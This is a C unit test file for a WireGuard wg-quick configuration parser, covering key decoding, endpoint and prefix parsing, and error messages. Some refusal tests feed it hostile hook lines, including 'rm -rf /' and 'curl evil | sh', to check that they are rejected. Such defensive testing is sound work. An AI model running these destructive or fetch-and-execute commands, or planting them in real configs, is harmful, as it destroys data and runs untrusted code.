/* test_wgconf.c: wg-quick files as people write them (comments, spacing, case, several peers,
 * AllowedIPs over several lines) parse to the right struct wg_config; every refusal names
 * FILE:LINE and what is wrong, and never echoes a secret key; base64 keys, endpoints and
 * prefixes on their own. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h> /* after the four above, which it needs */

#include "log.h"
#include "wgconf.h"

/* RFC 7748 6.1's keys and the wg(8) key of REFERENCES.md, as wg(8) writes them. */
#define ALICE_PRIV "dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo="
#define BOB_PUB	   "3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08="
#define REF_KEY	   "g3x7z0AdV1rM6UQU22CC7IL3/ivn4DzrE7ikDhCZ/Dc="
#define SEQ_KEY	   "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="

static void hex32(const char *s, uint8_t out[32])
{
	for (int i = 0; i < 32; i++)
		assert_int_equal(sscanf(s + 2 * i, "%2hhx", &out[i]), 1);
}

static void assert_prefix(const struct wg_prefix *p, const char *want)
{
	char s[WG_PREFIX_STR_MAX];

	wg_prefix_format(p, s);
	assert_string_equal(s, want);
}

static void assert_endpoint(const union wg_sockaddr *e, const char *want)
{
	char s[WG_ENDPOINT_STR_MAX];

	wg_endpoint_format(e, s);
	assert_string_equal(s, want);
}

/* --- keys ------------------------------------------------------------------------------- */

static void key_base64_round_trips_the_reference_vector(void **state)
{
	uint8_t key[32], want[32];
	char s[WG_KEY_B64_LEN + 1];

	hex32("837c7bcf401d575acce94414db6082ec82f7fe2be7e03ceb13b8a40e1099fc37", want);
	assert_int_equal(wg_key_b64_decode(REF_KEY, key), 0);
	assert_memory_equal(key, want, 32);
	wg_key_b64_encode(key, s);
	assert_string_equal(s, REF_KEY);

	for (int i = 0; i < 32; i++)
		key[i] = (uint8_t)i;
	wg_key_b64_encode(key, s);
	assert_string_equal(s, SEQ_KEY);
	memset(key, 0xff, 32);
	wg_key_b64_encode(key, s);
	assert_string_equal(s, "//////////////////////////////////////////8=");
	assert_int_equal(wg_key_b64_decode(s, want), 0);
	assert_memory_equal(key, want, 32);
}

static void key_decode_refuses_wrong_length_alphabet_padding_and_non_canonical(void **state)
{
	uint8_t key[32];

	memset(key, 0x11, sizeof(key));
	assert_int_equal(wg_key_b64_decode("", key), -EINVAL);
	assert_int_equal(wg_key_b64_decode("g3x7z0AdV1rM6UQU22CC7IL3/ivn4DzrE7ikDhCZ/Dc", key),
			 -EINVAL); /* 43: no padding */
	assert_int_equal(wg_key_b64_decode(REF_KEY "=", key), -EINVAL);
	assert_int_equal(wg_key_b64_decode("g3x7z0AdV1rM6UQU22CC7IL3_ivn4DzrE7ikDhCZ_Dc=", key),
			 -EINVAL); /* base64url is the multibase form, not wg's */
	assert_int_equal(wg_key_b64_decode("g3x7z0AdV1rM6UQU22CC7IL3/ivn4DzrE7ikDhCZ/Dd=", key),
			 -EINVAL); /* low bits of the last character set */
	assert_int_equal(wg_key_b64_decode("g3x7z0AdV1rM6UQU22CC7IL3/ivn4DzrE7ikDhCZ/D==", key),
			 -EINVAL);
	assert_int_equal(wg_key_b64_decode("g3x7z0AdV1rM6UQU22CC7IL3/ivn4Dzr 7ikDhCZ/Dc=", key),
			 -EINVAL);
	/* bytes above 0x7f are no characters of the alphabet (libsodium 1.0.18 takes some) */
	assert_int_equal(wg_key_b64_decode("\xa9\x8d"
					   "eDqqnPostqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqss=",
					   key),
			 -EINVAL);
	/* nothing written on failure */
	for (int i = 0; i < 32; i++)
		assert_int_equal(key[i], 0x11);
}

/* --- endpoints and prefixes -------------------------------------------------------------- */

static void endpoint_takes_ip_port_and_bracketed_v6(void **state)
{
	union wg_sockaddr e;

	assert_int_equal(wg_endpoint_parse("192.0.2.10:51820", &e), 0);
	assert_int_equal(e.sa.sa_family, AF_INET);
	assert_int_equal(ntohs(e.in.sin_port), 51820);
	assert_endpoint(&e, "192.0.2.10:51820");
	assert_int_equal(wg_endpoint_parse("[2001:db8::1]:1", &e), 0);
	assert_int_equal(e.sa.sa_family, AF_INET6);
	assert_endpoint(&e, "[2001:db8::1]:1");
	assert_int_equal(wg_endpoint_parse("[::ffff:192.0.2.1]:65535", &e), 0);
}

static void endpoint_refuses_names_and_says_why(void **state)
{
	static const struct {
		const char *in, *why;
	} cases[] = {
	    {"vpn.example.com:51820", "is a host name"},
	    {"localhost:51820", "is a host name"},
	    {"2001:db8::1:51820", "[address]:port"},
	    {"[2001:db8::1]51820", "[address]:port"},
	    {"[fe80::1%eth0]:51820", "scoped"},
	    {"[192.0.2.1]:51820", "not an IPv6 address"},
	    {"192.0.2.1", "needs a port"},
	    {"192.0.2.1:0", "port"},
	    {"192.0.2.1:65536", "port"},
	    {"192.0.2.1:+80", "port"},
	    {"192.0.2.1:", "port"},
	    {"192.0.2:80", "not an IPv4 address"},
	    {":80", "not an IPv4 address"},
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		union wg_sockaddr e;
		const char *why;

		err_clear();
		assert_int_equal(wg_endpoint_parse(cases[i].in, &e), -EINVAL);
		why = err_message(-EINVAL);
		if (!strstr(why, cases[i].why))
			fail_msg("%s: got \"%s\", want \"%s\"", cases[i].in, why, cases[i].why);
	}
}

static void prefix_parses_bare_and_masks_only_when_asked(void **state)
{
	struct wg_prefix p;

	assert_int_equal(wg_prefix_parse("10.0.13.7/24", false, &p), 0);
	assert_prefix(&p, "10.0.13.7/24");
	assert_int_equal(wg_prefix_parse("10.0.13.7/24", true, &p), 0);
	assert_prefix(&p, "10.0.13.0/24");
	assert_int_equal(wg_prefix_parse("10.0.13.7", true, &p), 0);
	assert_prefix(&p, "10.0.13.7/32");
	assert_int_equal(wg_prefix_parse("fd00:11::2/61", true, &p), 0);
	assert_prefix(&p, "fd00:11::/61");
	assert_int_equal(wg_prefix_parse("fd00:11:0:f::1/61", true, &p), 0);
	assert_prefix(&p, "fd00:11:0:8::/61");
	assert_int_equal(wg_prefix_parse("::/0", true, &p), 0);
	assert_prefix(&p, "::/0");
	assert_int_equal(wg_prefix_parse("10.0.0.0/33", true, &p), -EINVAL);
	assert_int_equal(wg_prefix_parse("::/129", true, &p), -EINVAL);
	assert_int_equal(wg_prefix_parse("10.0.0.0/", true, &p), -EINVAL);
	assert_int_equal(wg_prefix_parse("10.0.0.0/0008", true, &p), -EINVAL);
	assert_int_equal(wg_prefix_parse("example.com/8", true, &p), -EINVAL);
}

/* --- whole files -------------------------------------------------------------------------- */

static const char hand_written[] =
    "# wg0.conf for the agent box -- written by hand\n"
    "\n"
    "[Interface]\n"
    "PrivateKey = " ALICE_PRIV "   # the client's own\n"
    "Address = 10.0.11.2/24, fd00:11::2/64\n"
    "address=10.0.12.2\n"
    "\tListenPort\t=\t51820\r\n"
    "MTU = 1420\n"
    "DNS = 10.0.11.1,fd00:11::1\n"
    "\n"
    "; the hub\n"
    "[Peer]\n"
    "PublicKey = " BOB_PUB "\n"
    "PresharedKey = " SEQ_KEY "\n"
    "Endpoint = 192.0.2.10:51820\n"
    "AllowedIPs = 10.0.11.0/24, fd00:11::/64\n"
    "AllowedIPs = 10.0.13.7/24    # host bits: the kernel keeps 10.0.13.0/24\n"
    "PersistentKeepalive = 25\n"
    "\n"
    "[peer]\n"
    "publickey=" REF_KEY "\n"
    "ENDPOINT = [2001:db8::1]:51821\n"
    "allowedips =\n"
    "AllowedIPs= 0.0.0.0/0 ,::/0\n"
    "persistentkeepalive = off\n"
    "[Peer]\n"
    "PublicKey = " SEQ_KEY "\n";

static void hand_written_file_parses_every_key(void **state)
{
	struct wg_config c;
	uint8_t want[32];

	assert_int_equal(wgconf_parse(hand_written, strlen(hand_written), "wg0.conf", &c), 0);
	hex32("77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a", want);
	assert_memory_equal(c.private_key, want, 32);
	assert_int_equal(c.n_addresses, 3);
	assert_prefix(&c.addresses[0], "10.0.11.2/24"); /* an address keeps its host bits */
	assert_prefix(&c.addresses[1], "fd00:11::2/64");
	assert_prefix(&c.addresses[2], "10.0.12.2/32");
	assert_true(c.has_listen_port);
	assert_int_equal(c.listen_port, 51820);
	assert_int_equal(c.mtu, 1420);
	assert_int_equal(c.n_dns, 2);
	assert_prefix(&c.dns[0], "10.0.11.1/32");
	assert_prefix(&c.dns[1], "fd00:11::1/128");

	assert_int_equal(c.n_peers, 3);
	hex32("de9edb7d7b7dc1b4d35b61c2ece435373f8343c85b78674dadfc7e146f882b4f", want);
	assert_memory_equal(c.peers[0].public_key, want, 32);
	assert_int_equal(c.peers[0].line, 12);
	assert_true(c.peers[0].has_preshared_key);
	for (int i = 0; i < 32; i++)
		assert_int_equal(c.peers[0].preshared_key[i], i);
	assert_endpoint(&c.peers[0].endpoint, "192.0.2.10:51820");
	assert_int_equal(c.peers[0].n_allowed_ips, 3);
	assert_prefix(&c.peers[0].allowed_ips[0], "10.0.11.0/24");
	assert_prefix(&c.peers[0].allowed_ips[1], "fd00:11::/64");
	assert_prefix(&c.peers[0].allowed_ips[2], "10.0.13.0/24");
	assert_int_equal(c.peers[0].persistent_keepalive, 25);

	hex32("837c7bcf401d575acce94414db6082ec82f7fe2be7e03ceb13b8a40e1099fc37", want);
	assert_memory_equal(c.peers[1].public_key, want, 32);
	assert_false(c.peers[1].has_preshared_key);
	assert_endpoint(&c.peers[1].endpoint, "[2001:db8::1]:51821");
	assert_int_equal(c.peers[1].n_allowed_ips, 2);
	assert_prefix(&c.peers[1].allowed_ips[0], "0.0.0.0/0");
	assert_prefix(&c.peers[1].allowed_ips[1], "::/0");
	assert_int_equal(c.peers[1].persistent_keepalive, 0);

	/* a bare peer: no endpoint, no IPs */
	assert_int_equal(c.peers[2].endpoint.sa.sa_family, 0);
	assert_int_equal(c.peers[2].n_allowed_ips, 0);
	assert_int_equal(c.peers[2].line, 26);
	wg_config_free(&c);
	wg_config_free(&c); /* twice is harmless */
	wg_config_free(NULL);
}

static void minimal_file_has_no_port_and_no_peers(void **state)
{
	static const char text[] = "[Interface]\nPrivateKey=" ALICE_PRIV;
	struct wg_config c;

	assert_int_equal(wgconf_parse(text, strlen(text), "min.conf", &c), 0);
	assert_false(c.has_listen_port);
	assert_int_equal(c.mtu, 0);
	assert_int_equal(c.n_peers, 0);
	assert_null(c.peers);
	wg_config_free(&c);
}

/* Parse text and require the error "NAME:LINE: ..." containing want. */
static void assert_refused(const char *text, unsigned line, const char *want)
{
	struct wg_config c;
	char prefix[64];
	const char *msg;
	int r;

	memset(&c, 0x5a, sizeof(c));
	err_clear();
	r = wgconf_parse(text, strlen(text), "t.conf", &c);
	msg = err_message(r);
	if (r != -EINVAL)
		fail_msg("accepted (%d): %s", r, text);
	if (line)
		snprintf(prefix, sizeof(prefix), "t.conf:%u: ", line);
	else
		snprintf(prefix, sizeof(prefix), "t.conf: ");
	if (!startswith(msg, prefix) || !strstr(msg, want))
		fail_msg("got \"%s\", want \"%s...%s\"", msg, prefix, want);
	assert_null(strchr(msg, '\n'));
	/* a secret never appears in a message */
	assert_null(strstr(msg, ALICE_PRIV));
	assert_null(strstr(msg, "dwdtCnMYpX08"));
}

#define IFACE "[Interface]\nPrivateKey = " ALICE_PRIV "\n"
#define PEER  "[Peer]\nPublicKey = " BOB_PUB "\n"

static void hooks_and_routing_keys_are_refused_with_their_line(void **state)
{
	assert_refused(IFACE "PostUp = iptables -A FORWARD -i %i -j ACCEPT\n", 3,
		       "PostUp is not supported: it runs a shell command");
	assert_refused(IFACE "\npostdown = rm -rf /\n", 4, "PostDown is not supported");
	assert_refused(IFACE "PreUp = true\n", 3, "PreUp is not supported");
	assert_refused(IFACE "PREDOWN=true\n", 3, "PreDown is not supported");
	assert_refused(IFACE "SaveConfig = true\n", 3, "SaveConfig is not supported");
	assert_refused(IFACE "Table = off\n", 3, "Table is not supported");
	assert_refused(IFACE "FwMark = 0x1234\n", 3, "FwMark is not supported");
	/* in a [Peer] too, and before the first section */
	assert_refused(IFACE PEER "PostUp = x\n", 5, "PostUp is not supported");
	assert_refused("PostUp = x\n" IFACE, 1, "PostUp is not supported");
}

static void unknown_and_misplaced_keys_are_refused(void **state)
{
	assert_refused(IFACE "Foo = bar\n", 3, "unknown key \"Foo\"");
	assert_refused(IFACE PEER "Endpoint_ = 192.0.2.1:1\n", 5, "unknown key \"Endpoint_\"");
	assert_refused(IFACE "PublicKey = " BOB_PUB "\n", 3, "PublicKey belongs in [Peer]");
	assert_refused(IFACE PEER "ListenPort = 1\n", 5, "ListenPort belongs in [Interface]");
	assert_refused("PrivateKey = " ALICE_PRIV "\n", 1, "before any [Interface] or [Peer]");
	assert_refused(IFACE "[Peers]\n", 3, "unknown section \"[Peers]\"");
	assert_refused(IFACE "[ Interface ]\n", 3, "unknown section");
	assert_refused(IFACE "just words\n", 3, "is not a key = value line");
	assert_refused(IFACE "[Interface]\n", 3, "a second [Interface] (the first is at line 1)");
	assert_refused(IFACE "PrivateKey = " ALICE_PRIV "\n", 3,
		       "PrivateKey given twice in one section (first at line 2)");
	assert_refused(IFACE PEER "Endpoint = 192.0.2.1:1\nEndpoint = 192.0.2.1:2\n", 6,
		       "Endpoint given twice");
}

static void bad_values_are_refused_with_their_line(void **state)
{
	assert_refused("[Interface]\nPrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LC=\n", 2,
		       "PrivateKey is not a WireGuard key");
	assert_refused(IFACE "[Peer]\nPublicKey = nope\n", 4,
		       "PublicKey \"nope\" is not a WireGuard key");
	assert_refused(IFACE PEER "PresharedKey = short\n", 5,
		       "PresharedKey is not a WireGuard key");
	assert_refused(IFACE PEER "Endpoint = vpn.example.com:51820\n", 5,
		       "Endpoint \"vpn.example.com:51820\" is a host name: only IP addresses");
	assert_refused(IFACE PEER "Endpoint = 2001:db8::1:51820\n", 5, "[address]:port");
	assert_refused(IFACE PEER "Endpoint = 192.0.2.1\n", 5, "needs a port");
	assert_refused(IFACE PEER "AllowedIPs = 10.0.0.0/33\n", 5,
		       "AllowedIPs: \"10.0.0.0/33\" is not an address/prefix");
	assert_refused(IFACE PEER "AllowedIPs = 10.0.0.0/8,,10.1.0.0/16\n", 5,
		       "AllowedIPs has an empty item");
	assert_refused(IFACE PEER "AllowedIPs = 10.0.0.0/8,\n", 5, "empty item");
	assert_refused(IFACE PEER "AllowedIPs = example.com\n", 5, "not an address/prefix");
	assert_refused(IFACE PEER "PersistentKeepalive = -1\n", 5,
		       "PersistentKeepalive \"-1\" is not a number of seconds");
	assert_refused(IFACE PEER "PersistentKeepalive = 65536\n", 5, "PersistentKeepalive");
	assert_refused(IFACE "ListenPort = 70000\n", 3, "ListenPort \"70000\" is not a port");
	assert_refused(IFACE "ListenPort = \n", 3, "ListenPort \"\" is not a port");
	assert_refused(IFACE "MTU = 100\n", 3, "MTU \"100\" is not an MTU");
	assert_refused(IFACE "Address = 10.0.0.1/40\n", 3, "Address: \"10.0.0.1/40\"");
	assert_refused(IFACE "DNS = resolver.example.com\n", 3,
		       "DNS: \"resolver.example.com\" is not an IP address");
	assert_refused(IFACE "DNS = 10.0.0.0/8\n", 3, "is not an IP address");
}

static void structure_errors_name_the_section(void **state)
{
	assert_refused("", 0, "no [Interface] section");
	assert_refused("# only a comment\n", 0, "no [Interface] section");
	assert_refused(PEER, 0, "no [Interface] section");
	assert_refused("[Interface]\nListenPort = 1\n" PEER, 1, "[Interface] has no PrivateKey");
	assert_refused(IFACE "\n[Peer]\nEndpoint = 192.0.2.1:1\n" PEER, 4,
		       "[Peer] has no PublicKey");
	assert_refused(IFACE "[Peer]\n", 3, "[Peer] has no PublicKey");
	assert_refused(IFACE PEER "\n" PEER, 7,
		       "[Peer] has the same PublicKey as the [Peer] at line 3");
}

static void control_characters_are_refused(void **state)
{
	static const char nul[] = "[Interface]\nPrivateKey = " ALICE_PRIV "\nMTU = 14\0"
				  "20\n";
	struct wg_config c;
	int r;

	err_clear();
	r = wgconf_parse(nul, sizeof(nul) - 1, "t.conf", &c);
	assert_int_equal(r, -EINVAL);
	assert_string_equal(err_message(r), "t.conf:3: control character 0x00");
	assert_refused(IFACE "MTU = 1420\x1b[2J\n", 3, "control character 0x1b");
}

static void limits_hold(void **state)
{
	size_t cap = (WG_MAX_PEERS + 2) * 80 + 200, len = 0;
	char *text = malloc(cap);
	struct wg_config c;
	int r;

	assert_non_null(text);
	len += (size_t)snprintf(text + len, cap - len, IFACE);
	for (unsigned i = 0; i <= WG_MAX_PEERS; i++) {
		uint8_t key[32] = {0};
		char b64[WG_KEY_B64_LEN + 1];

		key[0] = (uint8_t)i;
		key[1] = (uint8_t)(i >> 8);
		wg_key_b64_encode(key, b64);
		len += (size_t)snprintf(text + len, cap - len, "[Peer]\nPublicKey=%s\n", b64);
	}
	err_clear();
	r = wgconf_parse(text, len, "big.conf", &c);
	assert_int_equal(r, -EINVAL);
	assert_non_null(strstr(err_message(r), "more than 4096 peers"));
	free(text);

	text = calloc(1, WGCONF_MAX_SIZE + 1);
	assert_non_null(text);
	r = wgconf_parse(text, WGCONF_MAX_SIZE + 1, "huge.conf", &c);
	assert_int_equal(r, -EINVAL);
	assert_string_equal(err_message(r), "huge.conf: larger than 1048576 bytes");
	free(text);
}

static void load_reads_a_file_and_names_it_in_errors(void **state)
{
	char path[] = "/tmp/test_wgconf.XXXXXX";
	struct wg_config c;
	int fd = mkstemp(path), r;
	static const char bad[] = IFACE "PostUp = curl evil | sh\n";

	assert_true(fd >= 0);
	assert_int_equal(write(fd, hand_written, strlen(hand_written)),
			 (ssize_t)strlen(hand_written));
	assert_int_equal(wgconf_load(path, &c), 0);
	assert_int_equal(c.n_peers, 3);
	wg_config_free(&c);

	assert_int_equal(ftruncate(fd, 0), 0);
	assert_int_equal(pwrite(fd, bad, strlen(bad), 0), (ssize_t)strlen(bad));
	err_clear();
	r = wgconf_load(path, &c);
	assert_int_equal(r, -EINVAL);
	assert_true(startswith(err_message(r), path));
	assert_non_null(strstr(err_message(r), ":3: PostUp is not supported"));
	close(fd);
	unlink(path);

	err_clear();
	assert_int_equal(wgconf_load(path, &c), -ENOENT);
	assert_non_null(strstr(err_message(-ENOENT), path));
	assert_int_equal(wgconf_load("/tmp", &c), -EINVAL);
}

/* --- the builder --------------------------------------------------------------------------- */

static void builder_takes_keys_and_names_each_ones_place(void **state)
{
	struct wgconf_builder *b;
	struct wg_config c;
	const char *msg;

	assert_int_equal(wgconf_builder_new("prof.yaml", &b), 0);
	assert_int_equal(wgconf_builder_section(b, false, 2), 0);
	assert_int_equal(wgconf_builder_set(b, "PrivateKey", ALICE_PRIV, 3, "prof.yaml:3:21: wg"),
			 0);
	assert_int_equal(wgconf_builder_set(b, "Address", "10.0.11.2/24", 4, "prof.yaml:4:12: wg"),
			 0);
	assert_int_equal(wgconf_builder_set(b, "Address", "fd11::2/64", 4, "prof.yaml:4:26: wg"),
			 0);
	assert_int_equal(wgconf_builder_section(b, true, 6), 0);
	assert_int_equal(wgconf_builder_set(b, "PublicKey", BOB_PUB, 6, "prof.yaml:6:19: wg"), 0);
	assert_int_equal(
	    wgconf_builder_set(b, "AllowedIPs", "10.0.11.1/32", 7, "prof.yaml:7:21: wg"), 0);
	assert_int_equal(wgconf_builder_finish(b, &c), 0);
	assert_int_equal(c.n_addresses, 2);
	assert_int_equal(c.n_peers, 1);
	assert_int_equal(c.peers[0].n_allowed_ips, 1);
	wg_config_free(&c);

	/* a bad value: its own place, and every later call keeps the first error */
	assert_int_equal(wgconf_builder_new("prof.yaml", &b), 0);
	assert_int_equal(wgconf_builder_section(b, false, 2), 0);
	err_clear();
	assert_int_equal(wgconf_builder_set(b, "MTU", "12", 5, "prof.yaml:5:8: wg"), -EINVAL);
	msg = err_message(-EINVAL);
	assert_non_null(strstr(msg, "prof.yaml:5:8: wg: MTU \"12\" is not an MTU"));
	assert_int_equal(wgconf_builder_set(b, "PrivateKey", ALICE_PRIV, 6, "x"), -EINVAL);
	assert_int_equal(wgconf_builder_finish(b, &c), -EINVAL);

	/* the file's rules: a key in the wrong section, a second one, a line break */
	assert_int_equal(wgconf_builder_new("prof.yaml", &b), 0);
	assert_int_equal(wgconf_builder_section(b, false, 2), 0);
	err_clear();
	assert_int_equal(wgconf_builder_set(b, "PublicKey", BOB_PUB, 3, "prof.yaml:3:3: wg"),
			 -EINVAL);
	assert_non_null(strstr(err_message(-EINVAL), "PublicKey belongs in [Peer]"));
	wgconf_builder_free(b);
	assert_int_equal(wgconf_builder_new("prof.yaml", &b), 0);
	assert_int_equal(wgconf_builder_section(b, false, 2), 0);
	err_clear();
	assert_int_equal(wgconf_builder_set(b, "Address", "10.0.0.1/24\n[Peer]", 3, "p:3:3: wg"),
			 -EINVAL);
	assert_non_null(strstr(err_message(-EINVAL), "p:3:3: wg: Address: a control character"));
	wgconf_builder_free(b);
	/* no PrivateKey: said at the interface's line */
	assert_int_equal(wgconf_builder_new("prof.yaml", &b), 0);
	assert_int_equal(wgconf_builder_section(b, false, 2), 0);
	err_clear();
	assert_int_equal(wgconf_builder_finish(b, &c), -EINVAL);
	assert_non_null(strstr(err_message(-EINVAL), "prof.yaml:2: [Interface] has no PrivateKey"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(key_base64_round_trips_the_reference_vector),
	    cmocka_unit_test(key_decode_refuses_wrong_length_alphabet_padding_and_non_canonical),
	    cmocka_unit_test(builder_takes_keys_and_names_each_ones_place),
	    cmocka_unit_test(endpoint_takes_ip_port_and_bracketed_v6),
	    cmocka_unit_test(endpoint_refuses_names_and_says_why),
	    cmocka_unit_test(prefix_parses_bare_and_masks_only_when_asked),
	    cmocka_unit_test(hand_written_file_parses_every_key),
	    cmocka_unit_test(minimal_file_has_no_port_and_no_peers),
	    cmocka_unit_test(hooks_and_routing_keys_are_refused_with_their_line),
	    cmocka_unit_test(unknown_and_misplaced_keys_are_refused),
	    cmocka_unit_test(bad_values_are_refused_with_their_line),
	    cmocka_unit_test(structure_errors_name_the_section),
	    cmocka_unit_test(control_characters_are_refused),
	    cmocka_unit_test(limits_hold),
	    cmocka_unit_test(load_reads_a_file_and_names_it_in_errors),
	};

	return cmocka_run_group_tests_name("wgconf", tests, NULL, NULL);
}
